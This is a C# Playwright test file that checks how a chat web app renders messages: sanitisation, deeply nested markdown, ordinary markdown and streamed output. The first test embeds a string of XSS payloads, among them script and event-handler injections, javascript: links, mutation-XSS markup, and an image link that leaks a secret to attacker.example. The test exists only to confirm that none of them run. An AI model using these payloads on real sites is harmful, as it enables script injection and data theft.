using ChatFunctions.Tests.Conversations;
using static Microsoft.Playwright.Assertions;

namespace ChatFunctions.Tests.Web;

/// <summary>What messages and replies may do to the page, and what they may not.</summary>
[Collection(nameof(BrowserTests))]
public sealed class PageSafetyTests(Browser browser)
{
    private const string Attack =
        """
        <script>window.hacked = 1</script>

        <img src=x onerror="window.hacked = 2"> <svg onload="window.hacked = 3"> <iframe srcdoc="<script>parent.hacked = 4</script>"></iframe>

        [a](javascript:window.hacked=5) <a href="javascript:window.hacked=6" onclick="window.hacked = 7">b</a>
        [c](data:text/html,<script>window.hacked=8</script>) ![d](https://attacker.example/leak.png?secret "e\" onload=hacked=9")

        <style>body { display: none }</style> <form action="https://attacker.example"><button>f</button></form> <base href="//attacker.example/">

        ```"><script>window.hacked=10</script>
        </code></pre><script>window.hacked = 11</script>
        ```

        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked=12&gt;">
        """;

    [ToolFact(Browser.Program)]
    public async Task Script_is_injected_by_message_and_reply_nothing_happens()
    {
        await using var chat = await browser.OpenAsync();
        var foreign = new List<string>();
        chat.Page.Request += (_, request) =>
        {
            if (!request.Url.StartsWith(browser.Host.Address.GetLeftPart(UriPartial.Authority), StringComparison.Ordinal))
            {
                foreign.Add(request.Url);
            }
        };

        await chat.ExchangeAsync($"[[model: echo delay=5]] {Attack}");
        await chat.Page.ReloadAsync();
        await chat.ExpectEndAsync();
        foreach (var link in await chat.Messages.Locator("a").AllAsync())
        {
            Assert.StartsWith("https://attacker.example/leak", await link.GetAttributeAsync("href"), StringComparison.Ordinal);
            Assert.Contains("noopener", await link.GetAttributeAsync("rel"), StringComparison.Ordinal);
        }

        Assert.Null(await chat.Page.EvaluateAsync<int?>("window.hacked ?? null"));
        Assert.Equal(0, await chat.Messages.Locator("script, img, iframe, style, form, base, math, svg:not(button svg)").CountAsync());
        Assert.Empty(foreign);
        // What was written about is shown, not lost.
        await Expect(chat.ReplyText).ToContainTextAsync("<script>window.hacked = 1</script>");
        await Expect(chat.Box).ToBeVisibleAsync();
    }

    [ToolTheory(Browser.Program)]
    [InlineData(">", 3_000)]
    [InlineData("- ", 1_200)]
    [InlineData("[", 20_000)]
    [InlineData("**", 10_000)]
    [InlineData("1. ", 1_500)]
    public async Task Text_nests_deeper_than_the_parser_can_it_is_shown_and_so_is_the_rest(string sign, int count)
    {
        var deep = $"{Texts.Repeat(sign, count)} deep";
        await using var chat = await browser.OpenAsync();
        await chat.ExchangeAsync("[[model: echo delay=0]] Before.");

        await chat.ExchangeAsync($"[[model: echo delay=0]] {deep}");
        await chat.ExchangeAsync("[[model: echo delay=0]] After.");
        await chat.Page.ReloadAsync();

        await Expect(chat.Messages).ToHaveCountAsync(6);
        await Expect(chat.Messages.Nth(0)).ToContainTextAsync("Before.");
        await Expect(chat.Messages.Nth(2)).ToContainTextAsync("deep");
        await Expect(chat.Messages.Nth(3)).ToContainTextAsync("deep");
        await Expect(chat.Messages.Nth(5)).ToContainTextAsync("After.");
    }

    [ToolFact(Browser.Program)]
    public async Task Markdown_is_written_it_is_shown_as_meant()
    {
        await using var chat = await browser.OpenAsync();

        await chat.ExchangeAsync(
            """
            [[model: echo delay=5]] # Title

            Some **bold**, *slanted* and `code`, and see [the page][1].

            - [x] done
            - one<br>two

            | a | b |
            | - | -: |
            | 1 | 2 |

            ```csharp
            var a = "<b>";
            ```

            [1]: https://example.com/page
            """);

        var body = chat.ReplyText;
        await Expect(body.Locator("h2")).ToHaveTextAsync("Title");
        await Expect(body.Locator("strong")).ToHaveTextAsync("bold");
        await Expect(body.GetByText("the page")).ToHaveAttributeAsync("href", "https://example.com/page");
        await Expect(body.Locator("li").First).ToHaveTextAsync("☑ done");
        await Expect(body.Locator("td").Last).ToHaveAttributeAsync("align", "right");
        await Expect(body.Locator("pre")).ToHaveTextAsync("var a = \"<b>\";\n");
        await Expect(body.Locator(".code-bar span")).ToHaveTextAsync("csharp");
    }

    [ToolFact(Browser.Program)]
    public async Task Markdown_grows_at_random_places_ends_as_if_it_had_come_at_once()
    {
        await using var chat = await browser.OpenAsync();
        var text = string.Concat(Enumerable.Range(1, 12).Select(n => string.Create(
            CultureInfo.InvariantCulture,
            $"## Part {n}\n\nText with **bold {n}** and\na second line.\n\n1. one\n2. two\n\n   more\n\n```\ncode " +
            $"{n}\n\n\nmore\n```\n\n> quoted\n\n")));

        await chat.ExchangeAsync($"[[model: echo delay=3]] {text}");
        var grown = await chat.ReplyText.InnerHTMLAsync();
        await chat.Page.ReloadAsync();
        await chat.ExpectEndAsync();

        Assert.Equal(await chat.ReplyText.InnerHTMLAsync(), grown);
        await Expect(chat.ReplyText.Locator("h2")).ToHaveCountAsync(12);
    }
}
